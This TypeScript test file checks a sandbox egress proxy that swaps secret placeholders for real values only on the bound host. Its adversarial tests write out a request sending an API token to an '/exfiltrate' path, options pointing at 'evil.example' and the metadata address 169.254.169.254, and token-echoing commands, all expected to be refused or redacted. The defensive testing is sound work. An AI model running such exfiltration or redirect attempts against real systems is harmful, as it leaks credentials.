/**
 * Secrets at the edge, from inside a sandbox: the command holds a placeholder, the proxy swaps the
 * value in for the secret's host only (opening TLS with the session CA the sandbox trusts) and never
 * lets the value back in; a placeholder bound elsewhere is refused; the value is in no output or
 * audit event; a restarted proxy keeps every session working.
 */
import { expect, it } from 'vitest';
import { SECRET_VALUE, waitForEvents, type World } from './sandbox-suite.ts';

export function defineSecretTests(state: { world: World }): void {
  it('swaps the placeholder for the value on the secret’s host only, and the value never comes back', async () => {
    const { world } = state;
    const session = await world.session();
    const env = await world.client(session, 'env');
    const placeholder = String(env.out['API_TOKEN']);
    expect(placeholder).toMatch(/^airlock-secret-API_TOKEN-/);
    expect(env.out).toMatchObject({
      SSL_CERT_FILE: '/.airlock/egress-ca-bundle.pem',
      NODE_EXTRA_CA_CERTS: '/.airlock/egress-ca.pem',
    });
    const before = world.secure.seen.length;
    // urllib trusts SSL_CERT_FILE: the session CA the proxy opens TLS with.
    const { result, out } = await world.client(
      session,
      `get https://secure.example.test:${world.secure.port}/api "X-Api-Key: $API_TOKEN"`,
    );
    expect(out).toMatchObject({ status: 200 });
    expect(world.secure.seen.slice(before)).toEqual([expect.objectContaining({ apiKey: SECRET_VALUE })]);
    // The upstream echoed the value back; the sandbox got the placeholder instead.
    expect(out['echoed']).toBe(placeholder);
    expect(String(out['body'])).toContain(placeholder);
    expect(JSON.stringify(result)).not.toContain(SECRET_VALUE);
    const events = await waitForEvents(world.airlock, session.id, 1);
    expect(events).toContainEqual(
      expect.objectContaining({
        data: expect.objectContaining({
          host: 'secure.example.test',
          inspected: true,
          secrets: ['API_TOKEN'],
        }),
      }),
    );
  });

  it('shows the session CA in the system bundle too, for tools that ignore SSL_CERT_FILE', async () => {
    const { world } = state;
    const session = await world.session();
    const check = await session.run(
      "python3 -c \"import sys; ca = open('/.airlock/egress-ca.pem').read().strip(); " +
        "print('in-bundle' if ca in open('/etc/ssl/certs/ca-certificates.crt').read() else 'missing')\"",
    );
    expect(check.stdout.trim()).toBe('in-bundle');
  });

  it('refuses a placeholder bound for another host, and never sends it (adversarial)', async () => {
    const { world } = state;
    const session = await world.session();
    const before = world.api.seen.length;
    const { out, result } = await world.client(
      session,
      `get http://api.example.test:${world.api.port}/exfiltrate "X-Api-Key: $API_TOKEN"`,
    );
    expect(out).toMatchObject({ status: 403, refused: 'placeholder_wrong_host' });
    expect(world.api.seen.length).toBe(before);
    expect(result.refusedHosts).toContainEqual(
      expect.objectContaining({ host: 'api.example.test', reason: 'placeholder_wrong_host' }),
    );
  });

  it('never lets the value into any output or audit event, even a command that echoes what it has', async () => {
    const { world } = state;
    const session = await world.session();
    await session.run('echo "token=$API_TOKEN"; env | grep -c API_TOKEN');
    await world.client(
      session,
      `get https://secure.example.test:${world.secure.port}/again "X-Api-Key: $API_TOKEN"`,
    );
    await waitForEvents(world.airlock, session.id, 1);
    const lines: string[] = [];
    await world.airlock.audit.exportJsonl((line) => void lines.push(line), { sessionId: session.id });
    expect(lines.length).toBeGreaterThan(0);
    expect(lines.join('\n')).not.toContain(SECRET_VALUE);
  });

  it('keeps every session working across a proxy restart: same socket, placeholder and CA', async () => {
    const { world } = state;
    const session = await world.session();
    const placeholder = (await world.client(session, 'env')).out['API_TOKEN'];
    const request = `get https://secure.example.test:${world.secure.port}/restart "X-Api-Key: $API_TOKEN"`;
    expect((await world.client(session, request)).out).toMatchObject({ status: 200 });
    await world.airlock.egress.restart();
    const after = await world.client(session, request);
    expect(after.out).toMatchObject({ status: 200, echoed: String(placeholder) });
    expect(world.secure.seen.at(-1)).toMatchObject({ apiKey: SECRET_VALUE });
  });

  it('refuses a session asking for more than the server allows, before any sandbox exists', async () => {
    const { world } = state;
    const wider = [
      { network: { mode: 'ask' as const, allow: ['evil.example'] } },
      { network: { allow: [`api.example.test:${world.api.port + 1}`] } },
      { network: { hosts: { 'api.example.test': '169.254.169.254' } } },
      { secrets: [{ name: 'OTHER_TOKEN' }] },
      { secrets: [{ name: 'API_TOKEN', hosts: ['evil.example'] }] },
      { secrets: [{ name: 'API_TOKEN', fromEnv: 'HOME' }] },
    ];
    expect(wider.length).toBeGreaterThan(0);
    const live = (await world.airlock.sessions.list({ state: 'active' })).length;
    for (const options of wider) {
      await expect(world.airlock.sessions.create(options), JSON.stringify(options)).rejects.toMatchObject({
        code: 'INVALID_ARGUMENT',
      });
    }
    expect((await world.airlock.sessions.list({ state: 'active' })).length).toBe(live);
  });

  it('uses curl as it is, where the image has curl', async (context) => {
    const { world } = state;
    // The server's list and fixed addresses, with nobody to ask: a host off the list is refused at once.
    const session = await world.session({ network: { mode: 'allowlist' } });
    const has = await session.run('command -v curl');
    if (has.exitCode !== 0) context.skip('this image has no curl');
    const plain = await session.run(`curl -sS http://api.example.test:${world.api.port}/curl`);
    expect(plain.stdout).toContain('hello from api.example.test');
    const secured = await session.run(
      `curl -sS -H "X-Api-Key: $API_TOKEN" https://secure.example.test:${world.secure.port}/curl`,
    );
    expect(secured.stderr).toBe('');
    expect(secured.stdout).toContain('hello from secure.example.test');
    expect(world.secure.seen.at(-1)).toMatchObject({ apiKey: SECRET_VALUE });
    const refused = await session.run('curl -sS http://evil.example/');
    expect(refused.stdout).toContain('airlock: egress to evil.example is not allowed');
  });
}
